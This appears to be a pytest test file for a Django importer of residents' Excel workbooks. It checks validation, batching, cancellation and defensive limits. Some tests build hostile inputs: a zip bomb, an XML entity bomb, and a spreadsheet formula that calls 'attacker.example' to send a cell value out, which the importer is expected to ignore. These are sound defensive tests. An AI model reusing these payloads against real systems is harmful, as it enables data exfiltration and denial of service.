"""Import of residents workbooks: the check pass, the write pass, and what real files contain."""

from __future__ import annotations

import uuid
import zipfile
from pathlib import Path

import openpyxl
import pytest

from afxq_portal.crypto import keyed_hash
from residents.excel.importer import BatchWriter, RowChecker, run_import
from residents.excel.reader import SheetRow
from residents.excel.safety import WorkbookError
from residents.models import Resident, ResidentChange, Source
from tests.excel_books import HEADER, Num, Sheet, write_xlsx
from tests.factories import ResidentFactory, make_id_card

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("english")]


def person(serial: int, *, name: str = "", room: str = "01", kind: str = "住户", phone: str = "") -> list:
    return [name or f"居民{serial}", make_id_card(serial), phone or f"138{serial:08d}", "男", kind,
            "1", "1", "3", room, None, None, None, None]


def test_it_checks_without_writing_and_then_writes_with_uuids(community_a, rooms, alice, tmp_path: Path) -> None:
    book = write_xlsx(tmp_path / "excel.xlsx", [Sheet("人员信息", [HEADER, person(1), person(2, room="02"),
                                                                  person(3, kind="物业人员")])])
    dry = run_import(book, community_a, commit=False)
    assert (dry.rows, dry.accepted, dry.refused, dry.written) == (3, 3, 0, 0)
    assert not Resident.objects.exists()

    done = run_import(book, community_a, commit=True, acting_user=alice)
    assert (done.rows, done.accepted, done.written) == (3, 3, 3)
    people = {r.id_card: r for r in Resident.objects.filter(community=community_a)}
    first = people[make_id_card(1)]
    assert first.name == "居民1" and first.phone == "13800000001" and first.sex == "1" and first.person_type == "01"
    assert first.room == rooms[0] and first.address == "四川省成都市锦江区观音桥55号1栋1单元3楼01号"
    assert first.source == Source.IMPORT and first.status == Resident.Status.ACTIVE
    assert first.id_card_hash == keyed_hash(make_id_card(1))
    staff = people[make_id_card(3)]
    assert staff.person_type == "03" and staff.room is None and staff.address == "四川省成都市锦江区观音桥55号"
    uuids = {r.init_uuid for r in people.values()}
    assert len(uuids) == 3 and None not in uuids
    assert all(r.user_id == str(r.init_uuid) for r in people.values())
    history = ResidentChange.objects.filter(resident=first).get()
    assert history.actor == alice and history.to_status == "active" and history.details == {"row": 2}


def test_it_reads_a_wps_file_with_inline_strings_merged_headers_and_extras(community_a, rooms, tmp_path: Path) -> None:
    # WPS: inline strings, no <dimension>; a title row merged across, a two-level header with 房屋 merged
    # over 楼栋..房号 and 姓名/身份证号 merged vertically; an extra column; the sheet second; full-width text.
    title = ["锦江花园人员初始化表"] + [None] * 13
    top = ["姓名", "身份证号", "手机号", "性别", "人员类型", "房屋", None, None, None, "备注", "UUID"]
    sub = [None, None, None, None, None, "楼栋", "单元", "楼层", "房号", None, None]
    full_width_phone = "１３８ ０００１ ２３４５"
    rows = [title, top, sub,
            ["王五", make_id_card(7), full_width_phone, "女", "租户", 1, 1, 3, "02", "新搬来", None],
            ["赵六", " " + make_id_card(8).lower() + "　", 13800000008, 1, 1, "1", "1", "3", "03", None, None],
            [None] * 11, [None, "", "  "]]
    book = write_xlsx(tmp_path / "wps.xlsx", [
        Sheet("说明", [["请按表填写"]]),
        Sheet("Sheet1", rows, merges=("A1:K1", "A2:A3", "B2:B3", "C2:C3", "D2:D3", "E2:E3", "F2:I2"), dimension=False),
    ], strings="inline")
    summary = run_import(book, community_a, commit=True)
    assert summary.sheet == "Sheet1" and summary.ignored_columns == ["备注"]
    assert (summary.rows, summary.accepted, summary.written) == (2, 2, 2), summary.problems
    wang = Resident.objects.get(name="王五")
    assert wang.phone == "13800012345" and wang.sex == "0" and wang.person_type == "02" and wang.room == rooms[1]
    zhao = Resident.objects.get(name="赵六")
    assert zhao.id_card == make_id_card(8).upper() and zhao.phone == "13800000008" and zhao.room == rooms[2]


def test_it_refuses_faulty_rows_with_a_message_naming_the_column(community_a, rooms, tmp_path: Path) -> None:
    existing = ResidentFactory(community=community_a, id_card=make_id_card(50))
    bad_check = make_id_card(11)[:17] + ("0" if make_id_card(11)[17] != "0" else "1")
    rows = [
        HEADER,
        person(10),                                                   # 2: fine
        ["钱七", Num("5.10104199001011E+17"), "13800000011", "男", "住户", "1", "1", "3", "01"],  # 3: number
        ["孙八", bad_check, "13800000012", "男", "住户", "1", "1", "3", "01"],  # 4: check digit
        ["周九", make_id_card(13), "12345", "男", "住户", "1", "1", "3", "01"],  # 5: phone
        ["吴十", make_id_card(14), "13800000014", "男", "09", "1", "1", "3", "01"],  # 6: type
        person(10, name="重复"),                                      # 7: same as row 2
        ["已有", existing.id_card, "13800000015", "男", "住户", "1", "1", "3", "01"],  # 8: already registered
        person(16, room="99"),                                        # 9: no such room
        ["张三（示例，请删除）", make_id_card(17), "13800000017", "男", "住户", "1", "1", "3", "01"],  # 10: example
        [*person(18)[:9], None, "2026-02-30", None, "not-a-uuid"],    # 11: date and UUID
    ]
    result_path = tmp_path / "result.xlsx"
    summary = run_import(write_xlsx(tmp_path / "bad.xlsx", [Sheet("人员信息", rows)]), community_a, commit=True,
                         result_path=result_path)
    messages = {p["row"]: p["message"] for p in summary.problems}
    assert (summary.rows, summary.accepted, summary.refused, summary.written) == (10, 1, 9, 1)
    assert "身份证号：was stored as a number, so Excel kept only 15 digits" in messages[3]
    assert messages[4] == "身份证号：check digit is wrong (GB 11643)"
    assert messages[5].startswith("手机号：is not a mobile number")
    assert messages[6] == "人员类型：must be one of 01 to 05"
    assert messages[7] == "身份证号：is the same as row 2"
    assert messages[8] == "身份证号：is already registered in this community"
    assert "room 1-1-3-99 does not exist in this community" in messages[9]
    assert messages[10] == "姓名：is an example row of the template: delete the row"
    assert "有效期开始：“2026-02-30” is not a date" in messages[11] and "UUID：“not-a-uuid” is not a UUID" in messages[11]
    assert set(Resident.objects.values_list("name", flat=True)) == {"居民10", existing.name}

    # The result: their rows, faulty cells filled, a message column at the end.
    sheet = openpyxl.load_workbook(result_path).active
    header = [c.value for c in sheet[1]]
    assert header[-1] == "检查结果" and header[:13] == HEADER
    assert sheet.cell(row=2, column=14).value == "imported"
    assert sheet.cell(row=4, column=2).fill.fgColor.rgb.endswith("FFC7CE")
    assert sheet.cell(row=4, column=1).fill.fgColor.rgb in ("00000000", None)
    assert sheet.cell(row=4, column=14).value == messages[4]
    assert sheet.cell(row=9, column=9).fill.fgColor.rgb.endswith("FFC7CE")  # the room column of row 9


def test_it_creates_missing_rooms_only_when_ticked(community_a, rooms, tmp_path: Path) -> None:
    book = write_xlsx(tmp_path / "rooms.xlsx", [Sheet("人员信息", [HEADER, person(20, room="88"), person(21, room="88"),
                                                                  ["新楼", make_id_card(22), "13800000022", "男", "住户",
                                                                   "9", "2", "5", "01"]])])
    refused = run_import(book, community_a, commit=True, create_rooms=False)
    assert refused.written == 0 and refused.refused == 3
    summary = run_import(book, community_a, commit=True, create_rooms=True)
    assert summary.written == 3 and summary.rooms_created == 2
    room = Resident.objects.get(name="新楼").room
    assert (room.building.number, room.unit, room.floor, room.number) == ("9", "2", "5", "01")
    assert room.needs_confirmation and room.building.needs_confirmation


def test_it_keeps_a_uuid_given_in_the_file(community_a, rooms, tmp_path: Path) -> None:
    given = uuid.uuid4()
    row = [*person(30)[:12], str(given).upper()]
    book = write_xlsx(tmp_path / "uuid.xlsx", [Sheet("人员信息", [HEADER, row])])
    run_import(book, community_a, commit=True)
    assert Resident.objects.get().init_uuid == given


def test_it_writes_in_batches_with_a_bounded_number_of_queries(community_a, rooms, tmp_path: Path,
                                                               django_assert_max_num_queries) -> None:
    rows = [HEADER] + [person(100 + n, room=f"0{1 + n % 3}") for n in range(300)]
    book = write_xlsx(tmp_path / "many.xlsx", [Sheet("人员信息", rows)])
    # 3 lookups + per batch of 100: savepoint, 2 bulk inserts (and SQLite's batch splitting) -> far below 1/row.
    with django_assert_max_num_queries(40):
        summary = run_import(book, community_a, commit=True, batch_size=100)
    assert summary.written == 300
    assert Resident.objects.filter(community=community_a).count() == 300
    assert ResidentChange.objects.count() == 300


def test_it_leaves_no_half_written_batch_when_a_batch_fails(community_a, rooms, tmp_path: Path) -> None:
    taken = ResidentFactory(community=community_a, id_card=make_id_card(40))
    checker = RowChecker(community_a, create_rooms=False)
    ok = [checker.check(SheetRow(n, (), dict(zip(
        ["name", "id_card", "phone", "sex", "person_type", "building", "unit", "floor", "room"],
        person(40 + n)[:9], strict=True)))) for n in range(1, 4)]
    # Someone registers the same person after the check: the insert of that batch fails as a whole.
    checker.existing_hashes.clear()
    clash = checker.check(SheetRow(9, (), {"name": "并发", "id_card": taken.id_card, "phone": "13800000099",
                                          "sex": "1", "person_type": "01", "building": "1", "unit": "1",
                                          "floor": "3", "room": "01"}))
    assert all(r.ok for r in [*ok, clash])
    writer = BatchWriter(community_a, acting_user=None, label="test")
    writer.add(ok[0])
    writer.add(clash)
    writer.flush()
    writer.add(ok[1])
    writer.add(ok[2])
    writer.flush()
    assert writer.written == 2 and set(writer.failed) == {1, 9}
    names = set(Resident.objects.filter(community=community_a).values_list("name", flat=True))
    assert names == {taken.name, "居民42", "居民43"}


@pytest.mark.parametrize(("name", "expected"), [
    ("old.xls", "old Excel 97-2003 file (.xls)"),
    ("list.csv", "is a CSV file"),
    ("notes.txt", "is not an Excel workbook"),
])
def test_it_explains_files_it_cannot_read(community_a, tmp_path: Path, name: str, expected: str) -> None:
    path = tmp_path / name
    path.write_bytes(b"\xd0\xcf\x11\xe0 not a workbook")
    from residents.excel.safety import check_file_name

    with pytest.raises(WorkbookError, match=expected.replace("(", r"\(").replace(")", r"\)")):
        check_file_name(name)


def test_it_refuses_a_renamed_file_and_zip_bombs_before_parsing(community_a, tmp_path: Path, settings) -> None:
    fake = tmp_path / "renamed.xlsx"
    fake.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 an old .xls")
    with pytest.raises(WorkbookError, match=r"not a valid \.xlsx"):
        run_import(fake, community_a, commit=False)

    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("xl/workbook.xml", "<workbook/>")
        z.writestr("xl/worksheets/sheet1.xml", b"0" * (3 * 2**20))
    settings.EXCEL_MAX_UNCOMPRESSED_BYTES = 2**20
    with pytest.raises(WorkbookError, match="would unpack to 3 MB"):
        run_import(bomb, community_a, commit=False)

    many = tmp_path / "many.xlsx"
    with zipfile.ZipFile(many, "w") as z:
        for n in range(30):
            z.writestr(f"xl/part{n}.xml", "<x/>")
    settings.EXCEL_MAX_ZIP_MEMBERS = 20
    with pytest.raises(WorkbookError, match="has 30 parts inside"):
        run_import(many, community_a, commit=False)


def test_it_refuses_xml_entity_bombs(community_a, tmp_path: Path) -> None:
    bomb = write_xlsx(tmp_path / "lol.xlsx", [Sheet("人员信息", [HEADER, person(60)])])
    with zipfile.ZipFile(bomb) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    parts["xl/sharedStrings.xml"] = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>'
        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&lol2;</t></si></sst>')
    with zipfile.ZipFile(bomb, "w") as z:
        for name, data in parts.items():
            z.writestr(name, data)
    with pytest.raises(WorkbookError, match="cannot be read"):
        run_import(bomb, community_a, commit=False)


def test_it_caps_the_number_of_rows(community_a, rooms, tmp_path: Path, settings) -> None:
    settings.EXCEL_MAX_ROWS = 5
    book = write_xlsx(tmp_path / "cap.xlsx", [Sheet("人员信息", [HEADER] + [person(70 + n) for n in range(6)])])
    with pytest.raises(WorkbookError, match="more than 5 rows"):
        run_import(book, community_a, commit=True)
    assert not Resident.objects.exists()


def test_it_stops_between_batches_when_cancelled(community_a, rooms, tmp_path: Path) -> None:
    from residents.excel.importer import PROGRESS_EVERY, Cancelled

    rows = [HEADER] + [person(400 + n, room=f"0{1 + n % 3}") for n in range(PROGRESS_EVERY * 3)]
    book = write_xlsx(tmp_path / "cancel.xlsx", [Sheet("人员信息", rows)])
    calls = []

    def progress(done: int, refused: int, total: int) -> bool:
        calls.append((done, total))
        return len(calls) < 2  # cancel at the second report

    with pytest.raises(Cancelled) as stopped:
        run_import(book, community_a, commit=True, progress=progress, batch_size=250)
    assert calls == [(PROGRESS_EVERY, PROGRESS_EVERY * 3), (PROGRESS_EVERY * 2, PROGRESS_EVERY * 3)]
    # Only whole batches were written: the batches completed before the second report.
    written = Resident.objects.count()
    assert written == stopped.value.summary.written and written % 250 == 0 and 0 < written <= PROGRESS_EVERY * 2


def test_it_keeps_the_row_numbers_of_the_users_sheet_in_the_result(community_a, rooms, tmp_path: Path) -> None:
    rows = [["锦江花园住户表", None], ["姓名", "身份证号", "手机号", "性别", "人员类型", "楼栋", "单元", "楼层", "房号"],
            person(80)[:9], [None] * 9, [None] * 9, ["坏行", "123", "13800000081", "男", "住户", "1", "1", "3", "01"]]
    book = write_xlsx(tmp_path / "gaps.xlsx", [Sheet("Sheet1", rows, merges=("A1:I1",))])
    result_path = tmp_path / "gaps-result.xlsx"
    summary = run_import(book, community_a, commit=False, result_path=result_path)
    assert summary.problems[0]["row"] == 6
    sheet = openpyxl.load_workbook(result_path).active
    assert sheet["A1"].value == "锦江花园住户表" and sheet["A2"].value == "姓名" and sheet["J2"].value == "检查结果"
    assert sheet["A3"].value == "居民80" and sheet["A6"].value == "坏行"
    assert sheet["J6"].value == summary.problems[0]["message"] and sheet["B6"].fill.fgColor.rgb.endswith("FFC7CE")


def test_it_reads_cached_values_and_never_evaluates_a_formula(community_a, rooms, tmp_path: Path) -> None:
    from tests.excel_books import Formula

    rows = [HEADER,
            [Formula('CONCAT("居民","90")', cached="居民90"), *person(90)[1:]],
            [Formula('WEBSERVICE("http://attacker.example/"&B3)'), *person(91)[1:]]]  # never calculated
    summary = run_import(write_xlsx(tmp_path / "formulas.xlsx", [Sheet("人员信息", rows)]), community_a, commit=True)
    assert summary.written == 1 and Resident.objects.get().name == "居民90"
    assert summary.problems == [{"row": 3, "message": "姓名：is required"}]
